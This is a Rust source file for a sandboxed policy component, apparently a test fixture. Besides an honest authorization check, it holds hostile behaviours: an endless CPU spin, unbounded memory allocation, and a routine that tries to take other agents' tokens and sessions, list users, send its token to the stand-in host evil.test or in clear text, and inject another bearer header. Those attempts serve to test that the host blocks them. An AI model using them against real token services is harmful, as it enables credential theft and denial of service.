//! A policy, by the world `symbolon:token/token-client`: it decides on a request, and asks an API about whoever makes it, as the
//! agent of its application. It never sees a token.
//!
//! And three policies that mean no good, to show what becomes of them.
#![cfg_attr(target_arch = "wasm32", no_std)]
#![cfg(target_arch = "wasm32")]

extern crate alloc;

#[path = "../../../../guest/component/src/runtime.rs"]
mod runtime;

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use bindings::symbolon::token::acquisition::{
    self, AgentFlow, AgentSubject, ClientFlow, Flow, Request as TokenRequest, Scheme,
};
use bindings::symbolon::token::send_authorized;
use bindings::symbolon::token::types::{Authorization, Token};
use bindings::wasi::http::types::{Fields, OutgoingRequest, Scheme as UrlScheme};
use bindings::{Behaviour, Decision, Request, Settings};

#[allow(
    unsafe_code,
    missing_docs,
    unreachable_pub,
    rust_2018_idioms,
    clippy::all,
    reason = "generated: lifts and lowers through linear memory"
)]
mod bindings {
    wit_bindgen::generate!({
        path: [
            "../../../wit/deps/io",
            "../../../wit/deps/clocks",
            "../../../wit/deps/http",
            "../../../wit/credentials",
            "../../../wit/token",
            "wit",
        ],
        world: "symbolon:policy-engine/policy",
        generate_all,
    });

    export!(Policy with_types_in self);

    /// What the component exports.
    pub(super) struct Policy;
}

const GRAPH: &str = "https://graph.microsoft.com/.default";
const VAULT: &str = "https://vault.azure.net/.default";

impl bindings::Guest for bindings::Policy {
    fn decide(settings: Settings, request: Request) -> Decision {
        match settings.behaviour {
            Behaviour::Honest => decide(&settings, &request).unwrap_or_else(Decision::Deny),
            Behaviour::Spins => spin(),
            Behaviour::Allocates => allocate(),
            Behaviour::Steals => match steal(&settings) {
                Ok(()) => Decision::Allow,
                Err(stolen) => Decision::Deny(stolen),
            },
        }
    }
}

/// What has no effect is allowed to everybody, the rest to those whom the API knows.
fn decide(settings: &Settings, request: &Request) -> Result<Decision, String> {
    if request.method == "OPTIONS" {
        return Ok(Decision::Allow);
    }
    let token = acquire(for_agent(&settings.agent), GRAPH)?;
    match get(&token, &settings.api, &format!("/users/{}", request.caller), &[])? {
        200 => Ok(Decision::Allow),
        status => Ok(Decision::Deny(format!("the API answered {status}"))),
    }
}

fn for_agent(agent: &str) -> Flow {
    Flow::ForAgent(AgentFlow { agent: agent.into(), subject: AgentSubject::App })
}

fn acquire(flow: Flow, scope: &str) -> Result<Authorization, String> {
    let request =
        TokenRequest { flow, scopes: Vec::from([scope.into()]), scheme: Scheme::Bearer, options: None };
    match acquisition::acquire(&request, None) {
        Ok(token) => match token.token {
            Token::Sealed(authorization) => Ok(authorization),
            Token::Raw(_) => Err("a token that can be read".into()),
        },
        Err(error) => Err(error.code),
    }
}

/// The status of the API's answer.
fn get(token: &Authorization, api: &str, path: &str, headers: &[(&str, &str)]) -> Result<u16, String> {
    let (scheme, authority) = match api.split_once("://") {
        Some(("https", authority)) => (UrlScheme::Https, authority),
        Some((_, authority)) => (UrlScheme::Http, authority),
        None => return Err("no URL".into()),
    };
    let fields = Fields::new();
    for (name, value) in headers {
        fields.append(name, value.as_bytes()).map_err(|_| "a header that is none")?;
    }
    let request = OutgoingRequest::new(fields);
    request.set_scheme(Some(&scheme)).map_err(|()| "a scheme that is none")?;
    request.set_authority(Some(authority)).map_err(|()| "an authority that is none")?;
    request.set_path_with_query(Some(path)).map_err(|()| "a path that is none")?;
    let answer = send_authorized::send(request, None, token).map_err(|error| format!("{error:?}"))?;
    answer.subscribe().block();
    match answer.get() {
        Some(Ok(Ok(response))) => Ok(response.status()),
        Some(Ok(Err(error))) => Err(format!("{error:?}")),
        _ => Err("no answer".into()),
    }
}

fn spin() -> ! {
    loop {
        core::hint::black_box(0);
    }
}

fn allocate() -> ! {
    let mut hoard = Vec::new();
    loop {
        hoard.push(Vec::<u8>::with_capacity(64 * 1024));
        core::hint::black_box(&hoard);
    }
}

/// An error says what could be had that isn't the policy's own.
fn steal(settings: &Settings) -> Result<(), String> {
    let mut stolen = Vec::new();
    let mut had = |what: &'static str, got: bool| {
        if got {
            stolen.push(what);
        }
    };
    let itself =
        Flow::ForClient(ClientFlow { fmi_path: None, attributes: None, attribute_tokens: Vec::new() });
    had("a token of the neighbour's agent", acquire(for_agent(&settings.neighbour), GRAPH).is_ok());
    had("a token of the application itself", acquire(itself, GRAPH).is_ok());
    had("a token for another API", acquire(for_agent(&settings.agent), VAULT).is_ok());
    for key in ["the neighbour's", "guest:1:1:the neighbour's"] {
        had("the neighbour's session", acquire(Flow::AcquireInLongRunningProcess(key.into()), GRAPH).is_ok());
        had("the end of the neighbour's session", acquisition::stop_long_running_process(key, None).is_ok());
    }
    had("the users of the application", acquisition::accounts(None).is_ok());
    match acquire(for_agent(&settings.agent), GRAPH) {
        Err(_) => had("not even its own token", true),
        Ok(token) => {
            had("its token sent elsewhere", get(&token, "https://evil.test", "/", &[]).is_ok());
            had("its token sent in clear", get(&token, "http://api.contoso.test", "/", &[]).is_ok());
            let header = [("authorization", "Bearer another")];
            had("another token sent", get(&token, &settings.api, "/", &header).is_ok());
        }
    }
    match stolen.is_empty() {
        true => Ok(()),
        false => Err(stolen.join(", ")),
    }
}
